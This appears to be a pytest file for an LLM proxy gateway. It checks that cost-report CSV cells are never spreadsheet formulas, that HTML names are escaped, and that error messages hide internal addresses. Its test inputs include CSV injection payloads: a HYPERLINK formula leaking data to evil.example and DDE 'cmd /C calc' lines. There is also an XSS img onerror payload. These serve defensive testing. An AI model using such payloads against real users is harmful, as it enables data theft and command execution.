"""What a key holder can put into the operator's report, and what the gateway's errors show of
its own side, against a served gateway (AWS is the moto server on loopback, providers are the
loopback doubles or a closed loopback port):

- the cost report's CSV never carries a cell a spreadsheet would run as a formula, and its HTML
  page escapes every name;
- made-up model names, refused before routing, add up in one bounded `unrouted` rollup row;
- an unreachable deployment's failure names the model, never its address or an object repr
  (the operator's log line keeps the whole text);
- NaN, Infinity, subnormal numbers, and key numbers no table can store, are 400s naming the
  field; a key alias another key has is refused."""

from __future__ import annotations

import csv
import io
import json
import logging
import uuid
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import boto3
import httpx
import pytest
from llm_proxy.accounting.rollups import UNROUTED, model_of
from llm_proxy.logs import SERVICE
from llm_proxy.reports.render import CSV_COLUMNS
from llm_proxy.store.rollups import RollupsTable
from llm_proxy.store.usage import UsageTable

from devstack.doubles.openai_upstream import Fault, OpenAIUpstream
from devstack.server import free_port
from tests.support.configs import (
    MASTER_KEY_FROM_SECRET,
    NO_RETRIES,
    deployment,
    gateway_config,
    openai_double,
)
from tests.support.functions import load_function, report_env
from tests.support.gateway_http import new_key
from tests.support.records import usage_record
from tests.support.stack import MASTER_KEY, PROVIDER_KEYS, usage_item

AUTH = {"Authorization": f"Bearer {MASTER_KEY}"}
MESSAGES = [{"role": "user", "content": "hi"}]
# What OWASP's CSV injection guidance lists as a cell's dangerous first characters.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def today() -> str:
    return datetime.now(UTC).strftime("%Y-%m-%d")


def chat(base: str, model: str, *, key: str = MASTER_KEY, **extra: Any) -> httpx.Response:
    return httpx.post(
        f"{base}/v1/chat/completions",
        headers={"Authorization": f"Bearer {key}"},
        json={"model": model, "messages": MESSAGES, **extra},
        timeout=30,
    )


def raw_post(base: str, path: str, body: str) -> httpx.Response:
    """A body sent as written: JSON's NaN and Infinity literals are not JSON, but parse here."""
    headers = {**AUTH, "content-type": "application/json"}
    return httpx.post(f"{base}{path}", headers=headers, content=body.encode(), timeout=30)


def openai_error(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert set(error) == {"message", "type", "param", "code"}
    assert error["code"] == code
    return dict(error)


@pytest.fixture(scope="module")
def gateway(gateway_for: Callable[..., str]) -> str:
    return gateway_for(
        gateway_config(
            openai_double(),
            router_settings=NO_RETRIES,
            general_settings=MASTER_KEY_FROM_SECRET,
        )
    )


def scheduled_report(aws: dict[str, str], day: str) -> dict[str, str]:
    """The scheduled cost report for `day`, run as deployed: its objects read back from S3."""
    with report_env(aws):
        load_function("cost_report", "cost_report_hygiene").handler(
            {"start": day, "end": day}, None
        )
    s3 = boto3.client("s3")
    return {
        kind: s3.get_object(Bucket=aws["ReportBucket"], Key=f"reports/{day}/cost-report.{kind}")[
            "Body"
        ]
        .read()
        .decode()
        for kind in ("csv", "html")
    }


def csv_rows(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return list(reader)


# -- the report ----------------------------------------------------------------------------------


def test_report_cells_are_never_formulas(
    gateway: str, aws: dict[str, str], upstream: OpenAIUpstream
) -> None:
    # Through the gateway: an agent name a key holder chooses that a spreadsheet would compute.
    agent = f"-1-{uuid.uuid4().hex[:6]}"
    served = httpx.post(
        f"{gateway}/v1/chat/completions",
        headers={**AUTH, "x-agent": agent},
        json={"model": "gpt-3.5-turbo", "messages": MESSAGES},
        timeout=30,
    )
    assert served.status_code == 200, served.text
    usage_item(aws["UsageTable"], served.headers["x-request-id"])
    # Labels as rollups written before made-up names were bounded hold them, through the real
    # write path (usage item and rollup in one transaction), on a day of this test's own.
    day = "2022-03-01"
    noon = datetime.fromisoformat(f"{day}T12:00:00+00:00").timestamp()
    store = UsageTable(aws["UsageTable"], 90, rollups_table=aws["RollupsTable"])
    hostile_html = '<img src=x onerror="alert(1)">'
    for index, formula in enumerate((*FORMULAS, hostile_html)):
        record = usage_record(
            started_at=noon,
            model_group=formula,
            key_id=FORMULAS[index % len(FORMULAS)],
            agent=FORMULAS[(index + 1) % len(FORMULAS)],
            prompt_tokens=1,
            cost_usd=0.001,
        )
        assert store.write(record)

    for period, expected in ((today(), {agent}), (day, {*FORMULAS, hostile_html})):
        report = scheduled_report(aws, period)
        rows = csv_rows(report["csv"])
        cells = [row[name] for row in rows for name in ("day", "model", "key_id", "agent")]
        # No label starts as a formula; each hostile one is kept, as text.
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
        assert not [cell for cell in cells if cell.startswith("-") and cell != "-"]
        labels = {cell.removeprefix("'") for cell in cells}
        assert expected <= labels
        for name in expected - {hostile_html}:
            assert f"'{name}" in cells
        # Numbers stay numbers.
        assert all(float(row["cost_usd"]) >= 0 for row in rows)
        # The page escapes every name: the hostile one is text there, never an element.
        assert "<img" not in report["html"]
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in report["html"]


def test_made_up_model_names_add_up_in_one_bounded_row(
    gateway: str, aws: dict[str, str], upstream: OpenAIUpstream
) -> None:
    key = new_key(gateway, key_alias=f"prober-{uuid.uuid4().hex[:8]}")
    names = [*FORMULAS, *(f"made-up-{n}-{uuid.uuid4().hex}" for n in range(14)), "x" * 5000]
    items = []
    for name in names:
        refused = chat(gateway, name, key=key)
        assert refused.status_code in (400, 404), refused.text
        items.append(usage_item(aws["UsageTable"], refused.headers["x-request-id"]))
    served = chat(gateway, "gpt-3.5-turbo", key=key)
    assert served.status_code == 200, served.text
    usage_item(aws["UsageTable"], served.headers["x-request-id"])

    # Each usage item keeps the name it asked for, within its bound.
    assert [item["model_requested"] for item in items[:-1]] == names[:-1]
    assert len(items[-1]["model_requested"].encode()) <= 256
    key_id = items[0]["key_id"]
    rows = [row for row in RollupsTable(aws["RollupsTable"]).day(today()) if row.key_id == key_id]
    by_model = {row.model: row for row in rows}
    assert set(by_model) == {UNROUTED, "gpt-3.5-turbo"}
    assert (by_model[UNROUTED].requests, by_model[UNROUTED].errors) == (len(names), len(names))
    assert by_model["gpt-3.5-turbo"].requests == 1

    reported = [
        row for row in csv_rows(scheduled_report(aws, today())["csv"]) if row["key_id"] == key_id
    ]
    assert sorted(row["model"] for row in reported) == sorted(["gpt-3.5-turbo", UNROUTED])


@pytest.mark.parametrize(
    ("item", "model"),
    [
        ({"model_group": "gpt-4", "model_requested": "coder", "status": 502}, "gpt-4"),
        ({"model_requested": "gpt-4", "status": 200, "cache_hit": True}, "gpt-4"),
        ({"model_requested": "gpt-4", "status": 429, "error_code": "budget_exceeded"}, "gpt-4"),
        ({"model_requested": "gpt-4", "status": 504, "error_code": "provider_timeout"}, "gpt-4"),
        ({"model_requested": "=1+1", "status": 404, "error_code": "model_not_found"}, UNROUTED),
        ({"model_requested": "gpt-4", "status": 403, "error_code": "model_not_allowed"}, UNROUTED),
        ({"model_requested": "gpt-4", "status": 400, "error_code": "invalid_value"}, UNROUTED),
        ({"model_requested": "x", "status": 503, "error_code": "dependency_unavailable"}, UNROUTED),
        ({"status": 400, "error_code": "missing_model"}, UNROUTED),
    ],
)
def test_a_rollup_names_only_a_model_the_gateway_accepted(item: dict[str, Any], model: str) -> None:
    assert model_of({"day": "2024-05-01", **item}) == model


# -- provider errors -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def closed_port() -> int:
    return free_port()


@pytest.fixture(scope="module")
def unreachable(gateway_for: Callable[..., str], closed_port: int) -> str:
    """Deployments whose address is a closed loopback port, one per HTTP client litellm uses
    (aiohttp for Ollama and Anthropic, the openai SDK's httpx for OpenAI)."""
    closed = f"http://127.0.0.1:{closed_port}"
    return gateway_for(
        gateway_config(
            deployment("local-llama", "ollama/llama2", api_base=closed),
            deployment(
                "claude-down",
                "anthropic/claude-3-haiku-20240307",
                api_base=closed,
                api_key="os.environ/ANTHROPIC_API_KEY",
            ),
            deployment(
                "gpt-down",
                "openai/gpt-4o",
                api_base=f"{closed}/v1",
                api_key="os.environ/OPENAI_API_KEY",
            ),
            router_settings={**NO_RETRIES, "disable_cooldowns": True},
            general_settings=MASTER_KEY_FROM_SECRET,
        )
    )


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
@pytest.mark.parametrize("model", ["local-llama", "claude-down", "gpt-down"])
def test_an_unreachable_deployment_shows_no_address_to_the_caller(
    unreachable: str,
    closed_port: int,
    caplog: pytest.LogCaptureFixture,
    model: str,
    stream: bool,
) -> None:
    caplog.set_level(logging.WARNING, logger=SERVICE)
    response = chat(unreachable, model, stream=stream)
    error = openai_error(response, 502, "provider_unreachable")
    assert error["message"] == f"The provider for model '{model}' could not be reached."
    assert error["type"] == "upstream_error"
    for leak in ("127.0.0.1", str(closed_port), "0x", "ssl", "object at", "litellm"):
        assert leak not in response.text

    # The operator's log line has the whole text, and no secret.
    logged = [r for r in caplog.records if r.getMessage() == "provider call failed"]
    assert logged, caplog.text
    line = vars(logged[-1])
    assert (line["model"], line["status"], line["code"]) == (model, 502, "provider_unreachable")
    assert "Connect" in line["detail"] or "Connection" in line["detail"]
    if model != "gpt-down":  # the openai SDK says only "Connection error."
        assert str(closed_port) in line["detail"]
    written = caplog.text + json.dumps([vars(r) for r in logged], default=str)
    assert not [name for name, secret in PROVIDER_KEYS.items() if secret in written]


def test_a_timeout_is_a_fixed_message(
    gateway_for: Callable[..., str], upstream: OpenAIUpstream
) -> None:
    base = gateway_for(
        gateway_config(
            openai_double("slow", "openai/gpt-4o", timeout=0.5),
            router_settings=NO_RETRIES,
            general_settings=MASTER_KEY_FROM_SECRET,
        )
    )
    upstream.fail_next(Fault(delay_s=2))
    error = openai_error(chat(base, "slow"), 504, "provider_timeout")
    assert error["message"] == "The provider for model 'slow' did not answer in time."


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_a_providers_refusal_keeps_its_words_but_not_the_gateways_side(
    gateway: str, upstream: OpenAIUpstream, stream: bool
) -> None:
    # As litellm and the HTTP clients under it write the gateway's side into a message.
    leaky = (
        "Invalid 'messages[0]': too short (sent via http://10.1.2.3:8443/v1 from "
        "127.0.0.1:50123 on <aiohttp.connector.TCPConnector object at 0x7f3a2b1c0d90>)"
    )
    upstream.fail_next(Fault(status=400, message=leaky))
    refused = openai_error(chat(gateway, "gpt-3.5-turbo", stream=stream), 400, "bad_request")
    assert refused["message"].startswith("Model 'gpt-3.5-turbo': Invalid 'messages[0]': too short")
    upstream.fail_next(Fault(status=500, message=leaky))
    failed = openai_error(chat(gateway, "gpt-3.5-turbo", stream=stream), 502, "provider_error")
    assert failed["message"] == "The provider for model 'gpt-3.5-turbo' failed to answer."
    for message in (refused["message"], failed["message"]):
        for leak in ("10.1.2.3", "8443", "127.0.0.1", "50123", "0x7f", "object at", "http"):
            assert leak not in message
    # A provider's rate limit is the operator's account's: its words name the organisation.
    account = "Rate limit reached for gpt-3.5-turbo in organization org-Hx2KqZ on tokens per min"
    upstream.fail_next(Fault(status=429, message=account, retry_after="3"))
    limited = chat(gateway, "gpt-3.5-turbo", stream=stream)
    assert openai_error(limited, 429, "provider_rate_limited")["message"] == (
        "Rate limit exceeded at the provider for model 'gpt-3.5-turbo'; retry after 3 seconds."
    )
    assert limited.headers["retry-after"] == "3"


# -- numbers and key fields ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "body", "param"),
    [
        ("/key/generate", '{"max_budget": 1e-300}', "max_budget"),
        ("/key/generate", '{"max_budget": 5e-324}', "max_budget"),
        ("/key/generate", '{"max_budget": NaN}', "max_budget"),
        ("/key/generate", '{"max_budget": Infinity}', "max_budget"),
        ("/key/generate", '{"metadata": {"weight": 1e-300}}', "metadata.weight"),
        ("/key/generate", '{"metadata": {"weight": -Infinity}}', "metadata.weight"),
        ("/key/generate", '{"metadata": {"big": 1e200}}', "metadata.big"),
        (
            "/v1/chat/completions",
            '{"model": "gpt-3.5-turbo", "messages": [{"role": "user", "content": "hi"}], '
            '"temperature": 5e-324}',
            "temperature",
        ),
        (
            "/v1/chat/completions",
            '{"model": "gpt-3.5-turbo", "messages": [{"role": "user", "content": "hi"}], '
            '"temperature": NaN}',
            "temperature",
        ),
        (
            "/v1/chat/completions",
            '{"model": "gpt-3.5-turbo", "messages": [{"role": "user", "content": "hi"}], '
            '"top_p": Infinity}',
            "top_p",
        ),
        (
            "/v1/chat/completions",
            '{"model": "gpt-3.5-turbo", "messages": [{"role": "user", "content": "hi"}], '
            '"tools": [{"type": "function", "function": {"name": "f", "parameters": '
            '{"type": "object", "properties": {"x": {"type": "number", "minimum": 1e-310}}}}}]}',
            "tools[0].function.parameters.properties.x.minimum",
        ),
    ],
)
def test_unusable_numbers_are_400_naming_the_field(
    gateway: str, upstream: OpenAIUpstream, path: str, body: str, param: str
) -> None:
    response = raw_post(gateway, path, body)
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert set(error) == {"message", "type", "param", "code"}
    assert error["type"] == "invalid_request_error"
    assert error["param"] == param
    assert error["code"] in ("invalid_number", "invalid_value")
    assert upstream.requests == []


def test_an_update_to_an_unstorable_budget_is_400_and_changes_nothing(gateway: str) -> None:
    key = new_key(gateway, max_budget=5)
    response = raw_post(gateway, "/key/update", json.dumps({"key": key, "max_budget": 1e-300}))
    error = openai_error(response, 400, "invalid_number")
    assert error["param"] == "max_budget"
    info = httpx.get(f"{gateway}/key/info", params={"key": key}, headers=AUTH, timeout=30)
    assert info.json()["info"]["max_budget"] == 5


def test_a_key_alias_in_use_is_refused(gateway: str) -> None:
    alias = f"team-bot-{uuid.uuid4().hex[:8]}"
    first = new_key(gateway, key_alias=alias)
    again = httpx.post(f"{gateway}/key/generate", headers=AUTH, json={"key_alias": alias})
    error = openai_error(again, 400, "key_alias_taken")
    assert error["param"] == "key_alias" and alias in error["message"]
    other = new_key(gateway)
    renamed = raw_post(gateway, "/key/update", json.dumps({"key": other, "key_alias": alias}))
    assert openai_error(renamed, 400, "key_alias_taken")["param"] == "key_alias"
    listed = httpx.get(f"{gateway}/key/list", params={"key_alias": alias}, headers=AUTH)
    assert listed.json()["total_count"] == 1
    assert first != other
